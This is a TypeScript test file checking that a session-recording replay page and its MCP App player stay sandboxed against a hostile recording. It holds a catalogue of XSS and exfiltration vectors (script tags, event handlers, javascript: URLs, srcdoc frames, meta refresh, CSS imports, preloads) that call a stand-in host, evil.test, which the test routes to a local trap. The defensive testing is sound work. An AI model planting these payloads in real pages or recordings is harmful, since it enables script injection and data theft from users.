import { createServer, type Server, type Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { LoopbackWatch } from '../src/watch/index.js';
import { startHarness, type Harness } from './harness.js';
import { openAppHost } from './support/app-host.js';
import { dom, type Node } from './support/rrweb-dom.js';
import { chromiumPresent, headlessContext } from './support/chromium.js';

/**
 * The watch page, and the same player as an MCP App (test/support/app-host.ts), against a
 * recording its visitor shaped (issue 43's link, attacked): scripts, handlers, javascript: URLs,
 * frames, refreshes, forms, preloads, CSS and plugins pointing outside, in the first snapshot and
 * again in a mutation later. Chromium resolves the recording's outside host (evil.test and its
 * subdomains) to a trap listener of the test's, so any connection to it (a request, a preconnect,
 * a refresh) is counted there, whatever the page's CSP let through. A recorded script that ran
 * would mark the watch page (`parent.pwned`) or its title.
 */
const hasChromium = chromiumPresent('attack4 watch tests');

const PROJECT = '1';
const T0 = Date.UTC(2026, 10, 1, 9);
/** Run where it could: marks the watch page (the replay frame's parent, or its top). */
const pwnAt = (tag: string, out: string) => `try{parent.pwned=(parent.pwned||[]).concat('${tag}')}catch(e){};try{top.document.title='PWNED ${tag}'}catch(e){};fetch('${out}/ran-${tag}')`;

/** Every trap the recording sets; `tag` tells the first snapshot's from the mutation's. */
function hostileBody(el: ReturnType<typeof dom>['el'], tag: string, out: string): Node[] {
  const host = new URL(out).host;
  const PWN = (what: string) => pwnAt(what, out);
  return [
    el('p', {}, `Hostile ${tag}`),
    el('script', {}, PWN(`script-${tag}`)),
    el('script', { src: `${out}/script-${tag}.js` }),
    el('img', { src: 'x:', onerror: PWN(`onerror-${tag}`) }),
    el('img', { src: `${out}/img-${tag}.png`, srcset: `${out}/srcset-${tag}.png 2x` }),
    el('a', { href: `javascript:${PWN(`href-${tag}`)}`, id: `js-${tag}` }, 'js link'),
    el('a', { href: `${out}/top-${tag}`, target: '_top', ping: `${out}/ping-${tag}`, style: 'display:block;width:100%;height:200px' }, 'top link'),
    el('iframe', { srcdoc: `<script>${PWN(`srcdoc-${tag}`)}</script><img src="${out}/srcdoc-${tag}.png">` }),
    el('iframe', { src: `${out}/frame-${tag}` }),
    el('iframe', { src: `javascript:${PWN(`frame-js-${tag}`)}` }),
    el('form', { action: `${out}/form-${tag}`, method: 'post', id: `form-${tag}` }, el('input', { name: 'q', autofocus: '', onfocus: PWN(`onfocus-${tag}`) })),
    el('object', { data: `${out}/object-${tag}` }),
    el('embed', { src: `${out}/embed-${tag}` }),
    el('video', { poster: `${out}/poster-${tag}.png`, src: `${out}/video-${tag}.mp4`, autoplay: '' }),
    el('audio', { src: `${out}/audio-${tag}.mp3`, autoplay: '' }),
    el('input', { type: 'image', src: `${out}/input-${tag}.png` }),
    el('div', { style: `background:url(${out}/inline-${tag}.png);width:10px;height:10px` }),
    el('svg', { onload: PWN(`svg-${tag}`) }, el('image', { href: `${out}/svg-${tag}.png` })),
    el('details', { open: '', ontoggle: PWN(`toggle-${tag}`) }, el('summary', {}, 'd')),
    el('style', {}, `@import url(${out}/import-${tag}.css); body{background-image:url(${out}/bg-${tag}.png)} @font-face{font-family:f${tag};src:url(${out}/font-${tag}.woff)} p{font-family:f${tag};cursor:url(${out}/cursor-${tag}.png),auto}`),
    el('link', { rel: 'stylesheet', href: `${out}/sheet-${tag}.css` }),
    el('link', { rel: 'prefetch', href: `${out}/prefetch-${tag}` }),
    el('link', { rel: 'preload', as: 'image', href: `${out}/preload-${tag}.png` }),
    el('link', { rel: 'preload', as: 'fetch', href: `${out}/preload-fetch-${tag}` }),
    el('link', { rel: 'modulepreload', href: `${out}/module-${tag}.js` }),
    el('link', { rel: 'preconnect', href: `http://preconnect-${tag}.${host}` }),
    el('link', { rel: 'dns-prefetch', href: `http://dns-${tag}.${host}` }),
    el('link', { rel: 'manifest', href: `${out}/manifest-${tag}.json` }),
    el('meta', { 'http-equiv': 'refresh', content: `1;url=${out}/refresh-${tag}` }),
    el('base', { href: `${out}/base-${tag}/` }),
    el('img', { src: `relative-${tag}.png` }),
  ];
}

/** A mutation's adds for `node` and its descendants: rrweb adds a node without its children, each child an add of its own. */
function flat(node: Node, parentId: number): Array<{ parentId: number; nextId: null; node: Node }> {
  return [{ parentId, nextId: null, node: { ...node, childNodes: [] } }, ...(node.childNodes ?? []).flatMap((child) => flat(child, node.id))];
}

/** A full snapshot of every trap, then (1 s on) a mutation adding them again and re-pointing a frame. */
function hostileRecording(out: string): unknown[] {
  const PWN = (what: string) => pwnAt(what, out);
  const { el, page } = dom();
  const snapshot = page(...hostileBody(el, 'snap', out));
  const body = snapshot.childNodes![0]!.childNodes![1]!;
  const later = hostileBody(el, 'mut', out);
  const frame = later.find((n) => n.tagName === 'iframe' && n.attributes?.src)!;
  const huge = 'A'.repeat(2_000_000);
  return [
    { type: 4, timestamp: T0, data: { href: 'https://shop.test/', width: 800, height: 600 } },
    { type: 2, timestamp: T0 + 1, data: { node: snapshot, initialOffset: { top: 0, left: 0 } } },
    ...Array.from({ length: 6 }, (_, i) => ({ type: 3, timestamp: T0 + 300 + i * 1000, data: { source: 1, positions: [{ x: 5, y: 5, id: body.id, timeOffset: 0 }] } })),
    { type: 3, timestamp: T0 + 1000, data: { source: 0, texts: [], removes: [], attributes: [], adds: later.flatMap((node) => flat(node, body.id)) } },
    {
      type: 3,
      timestamp: T0 + 1500,
      data: { source: 0, texts: [], removes: [], adds: [], attributes: [{ id: frame.id, attributes: { src: `${out}/frame-resrc`, srcdoc: `<script>${PWN('srcdoc-attr')}</script>`, title: huge } }, { id: body.id, attributes: { onload: PWN('body-attr'), background: `${out}/body-bg.png` } }] },
    },
  ];
}

/**
 * The recorded link to the top, its javascript: link and its form, followed from the player's
 * side (the replay frame takes no pointer events, so a person's click never reaches them): the
 * frame's sandbox is what must hold.
 */
async function followTraps(replayed: (script: string) => Promise<unknown>): Promise<void> {
  await replayed(`for (const a of document.querySelectorAll('a')) a.click(); for (const f of document.querySelectorAll('form')) { try { f.submit(); } catch {} } return true`);
}

/** A TCP listener that counts whatever Chromium opens to a host other than 127.0.0.1, and what it asked. */
async function trap(): Promise<{ server: Server; port: number; connections: number; asked: string[] }> {
  const state = { connections: 0, asked: [] as string[] };
  const server = createServer((socket: Socket) => {
    state.connections++;
    socket.setEncoding('latin1');
    socket.once('data', (chunk: string) => {
      state.asked.push(chunk.split('\r\n')[0]!);
      socket.end('HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n');
    });
    socket.on('error', () => {});
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return Object.assign(state, { server, port: (server.address() as { port: number }).port });
}

describe.skipIf(!hasChromium)('the watch page against a hostile recording (headless Chromium)', { timeout: 90_000 }, () => {
  let h: Harness;
  let context: BrowserContext;
  let chromium: Awaited<ReturnType<typeof headlessContext>>;
  let outside: Awaited<ReturnType<typeof trap>>;
  let hostScript: string;

  beforeAll(async () => {
    const { build } = await import('esbuild');
    const bundled = await build({ entryPoints: [new URL('./browser/host.js', import.meta.url).pathname], bundle: true, format: 'esm', platform: 'browser', write: false, logLevel: 'error' });
    hostScript = bundled.outputFiles[0]!.text;
    outside = await trap();
    h = await startHarness({ watch: new LoopbackWatch() });
    // Only the recording's host goes to the trap: Chromium's own traffic (its updater) is not the page's.
    const rules = `--host-resolver-rules=MAP evil.test 127.0.0.1:${outside.port}, MAP *.evil.test 127.0.0.1:${outside.port}`;
    chromium = await headlessContext('attack4', [rules]);
    context = chromium.context;
  }, 60_000);

  afterAll(async () => {
    await chromium?.close();
    await h?.close();
    outside?.server.close();
  });

  function serve(id: string, events: unknown[]): void {
    const base = `/api/projects/${PROJECT}/session_recordings/${id}`;
    const body = events.map((e) => JSON.stringify(['w1', e])).join('\n');
    h.sandbox.injectFault({ path: `${base}/snapshots`, query: { source: 'blob_v2' }, times: Infinity, status: 200, body });
    h.sandbox.injectFault({ path: `${base}/snapshots`, times: Infinity, status: 200, body: { sources: [{ source: 'blob_v2', blob_key: '0', start_timestamp: null, end_timestamp: null }] } });
    h.sandbox.injectFault({ path: base, times: Infinity, status: 200, body: { id, distinct_id: 'hostile', person: null } });
  }

  async function watchUrl(id: string): Promise<string> {
    const result = await h.call('session-recording-replay', { project_id: PROJECT, id });
    const url = (result.structuredContent as { watch_url?: string }).watch_url;
    if (!url) throw new Error(`no watch link: ${JSON.stringify(result.structuredContent).slice(0, 300)}`);
    return url;
  }

  it('runs no recorded script, reaches no other host, and stays on its page through the replay', async () => {
    serve('hostile-dom', hostileRecording('http://watch.evil.test'));
    const url = await watchUrl('hostile-dom');
    const page: Page = await context.newPage();
    const requests: string[] = [];
    const refused: string[] = [];
    const popups: string[] = [];
    // Chromium reports a request the CSP refused too (failed, its error 'csp'): what counts is what was sent.
    page.on('requestfinished', (r) => requests.push(r.url()));
    page.on('requestfailed', (r) => {
      if (!/^(net::ERR_BLOCKED_BY_CSP|csp)$/.test(r.failure()?.errorText ?? '')) requests.push(`${r.url()} (${r.failure()?.errorText})`);
    });
    page.on('console', (message) => {
      if (/Content Security Policy|sandbox/i.test(message.text())) refused.push(message.text());
    });
    context.on('page', (p) => popups.push(p.url()));
    try {
      await page.goto(url);
      await page.waitForSelector('#player[data-ready="true"] .replayer-wrapper iframe', { timeout: 30_000 });
      const replayed = (script: string) => page.evaluate(`(() => { const document = window.document.querySelector('.replayer-wrapper iframe').contentDocument; ${script} })()`);
      await expect.poll(() => replayed('return document.body?.textContent ?? ""'), { timeout: 15_000 }).toContain('Hostile snap');
      if ((await page.getAttribute('#play', 'aria-pressed')) !== 'true') await page.click('#play');
      await expect.poll(() => replayed('return document.body?.textContent ?? ""'), { timeout: 15_000 }).toContain('Hostile mut');
      await followTraps(replayed);
      await page.waitForTimeout(3_000);

      expect(page.url()).toBe(url);
      expect(await page.evaluate('window.pwned ?? null')).toBeNull();
      expect(await page.title()).not.toMatch(/PWNED/);
      expect(popups).toEqual([]);
      const ownOrigin = new URL(url).origin;
      expect(requests.filter((r) => !r.startsWith(`${ownOrigin}/`) && !/^(data|blob|about):/.test(r))).toEqual([]);
      expect({ connections: outside.connections, asked: outside.asked }).toEqual({ connections: 0, asked: [] });
      // The page itself still works: it was not replaced by a refresh or a form's answer.
      expect(await page.locator('#player').count()).toBe(1);
      expect(refused.length).toBeGreaterThan(0);
    } finally {
      await page.close();
    }
  });

  // The same recording as an MCP App, in a host that applies the resource's CSP and in one that
  // ignores it (the player's own meta policy is then all there is).
  for (const ignoreCsp of [false, true]) {
    it(`as an MCP App in a host that ${ignoreCsp ? 'ignores' : 'applies'} its declared CSP: runs no recorded script, reaches no other host, leaves the host page where it is`, async () => {
      // A host of its own: Chromium keeps connections it opened for another test.
      serve(`hostile-dom-app-${ignoreCsp}`, hostileRecording(`http://${ignoreCsp ? 'lax' : 'strict'}.evil.test`));
      const before = outside.connections;
      const popups: string[] = [];
      const onPage = (p: Page) => popups.push(p.url());
      const host = await openAppHost({ client: h.client, context, hostScript }, { project_id: PROJECT, id: `hostile-dom-app-${ignoreCsp}` }, 'light', { ignoreCsp });
      // Pages opened from here on (the host's own is open): a recorded link's popup.
      context.on('page', onPage);
      try {
        const hostUrl = host.page.url();
        const proxy = await (await host.page.waitForSelector('#sandbox')).contentFrame();
        const player = await (await proxy!.waitForSelector('#view')).contentFrame();
        await player!.waitForSelector('#player[data-ready="true"] .replayer-wrapper iframe', { timeout: 30_000 });
        const replayed = (script: string) => player!.evaluate(`(() => { const document = window.document.querySelector('.replayer-wrapper iframe').contentDocument; ${script} })()`);
        await expect.poll(() => replayed('return document.body?.textContent ?? ""'), { timeout: 15_000 }).toContain('Hostile snap');
        if ((await player!.getAttribute('#play', 'aria-pressed')) !== 'true') await player!.click('#play');
        await expect.poll(() => replayed('return document.body?.textContent ?? ""'), { timeout: 15_000 }).toContain('Hostile mut');
        await followTraps(replayed);
        await host.page.waitForTimeout(3_000);

        expect(host.page.url()).toBe(hostUrl);
        expect(await player!.evaluate('window.pwned ?? null')).toBeNull();
        expect(await host.page.evaluate('window.pwned ?? null')).toBeNull();
        expect(await host.page.title()).not.toMatch(/PWNED/);
        expect(popups).toEqual([]);
        expect({ connections: outside.connections - before }).toEqual({ connections: 0 });
        expect(host.refused.length).toBeGreaterThan(0);
      } finally {
        context.off('page', onPage);
        await host.close();
      }
    });
  }
});
